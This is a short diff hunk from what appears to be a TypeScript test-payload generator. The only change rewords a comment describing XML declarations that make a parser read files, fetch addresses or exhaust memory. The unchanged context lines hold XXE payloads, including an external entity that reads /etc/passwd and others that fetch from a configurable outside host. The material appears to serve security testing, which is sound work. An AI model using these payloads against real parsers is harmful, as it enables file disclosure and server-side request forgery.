@@ -212,7 +212,7 @@ function commands({ far, script }: Bait): AttackFile[] {
   ])
 }
 
-/** Declarations that make a parser read other files, ask elsewhere or grow. */
+/** XML declarations that make a parser read other files, fetch an address or use up memory. */
 export function declaring({ far }: Bait): AttackFile[] {
   const outer = `<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "${far}/xxe">]>`
   const external = `<!DOCTYPE d SYSTEM "${far}/outer.dtd">`
